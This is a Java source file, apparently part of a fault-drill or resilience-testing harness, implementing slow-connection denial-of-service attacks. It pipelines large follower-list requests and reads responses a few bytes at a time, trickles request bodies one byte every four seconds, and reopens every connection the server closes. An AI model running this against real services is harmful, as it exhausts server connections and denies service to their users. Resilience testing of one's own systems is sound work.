package io.aviary.fault.drill.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/// Keeps connections busy with almost no bytes. A connection that the server closes is reopened.
final class SlowConnections {
    private static final Duration TIMEOUT = Duration.ofSeconds(2);
    private static final Duration REOPEN_DELAY = Duration.ofSeconds(1);
    private static final int RECEIVE_BUFFER = 2_048;

    /// The number of requests to send at once. The buffers of loopback connections hold more than
    /// one response.
    private static final int PIPELINED = 8;

    private static final Duration BEFORE_READ = Duration.ofSeconds(1);
    private static final int READ_SIZE = 512;

    private static final Duration BEFORE_BYTE = Duration.ofSeconds(4);
    private static final int BODY_SIZE = 10;

    private SlowConnections() {}

    private interface SocketTask {
        void run(Socket socket, Attacker attacker) throws IOException;
    }

    /// Requests pages of 1,000 followers, and reads 512 bytes a second.
    static void readSlowly(Attacker attacker, int number) {
        keepOpen(attacker, RECEIVE_BUFFER, SlowConnections::readSlowly);
    }

    private static void readSlowly(Socket socket, Attacker attacker) throws IOException {
        String request =
                "GET /2/users/%s/followers?max_results=1000&user.fields=created_at,description,public_metrics,profile_image_url HTTP/1.1\r\n%s\r\n"
                        .formatted(attacker.session().userId(), attacker.authorizedHeaders());
        write(socket, request.repeat(PIPELINED));
        for (int i = 0; i < PIPELINED; i++) {
            attacker.count();
        }
        var bytes = new byte[READ_SIZE];
        while (attacker.isActive() && socket.getInputStream().read(bytes) >= 0) {
            attacker.pause(BEFORE_READ);
        }
    }

    /// Sends a byte of a body every four seconds. Half of the clients send the token of the
    /// account; the others try to log in.
    static void sendSlowly(Attacker attacker, int number) {
        String head =
                number % 2 == 0
                        ? "GET /2/users/me HTTP/1.1\r\n" + attacker.authorizedHeaders()
                        : "POST /sessions HTTP/1.1\r\nContent-Type: application/json\r\n"
                                + attacker.headers();
        keepOpen(attacker, 0, (socket, _) -> sendSlowly(socket, attacker, head));
    }

    private static void sendSlowly(Socket socket, Attacker attacker, String head)
            throws IOException {
        write(socket, head + "Content-Length: " + BODY_SIZE + "\r\n\r\n");
        attacker.count();
        for (int i = 0; i < BODY_SIZE && attacker.isActive() && !hasResponse(socket); i++) {
            attacker.pause(BEFORE_BYTE);
            write(socket, "x");
        }
    }

    private static boolean hasResponse(Socket socket) throws IOException {
        return socket.getInputStream().available() > 0;
    }

    private static void write(Socket socket, String text) throws IOException {
        socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
    }

    private static void keepOpen(Attacker attacker, int receiveBuffer, SocketTask task) {
        while (attacker.isActive()) {
            try (var socket = attacker.open(receiveBuffer, TIMEOUT)) {
                socket.setSoTimeout((int) TIMEOUT.toMillis());
                task.run(socket, attacker);
            } catch (IOException refused) {
                // A server may refuse an attacker in any way.
            }
            attacker.pause(REOPEN_DELAY);
        }
    }
}
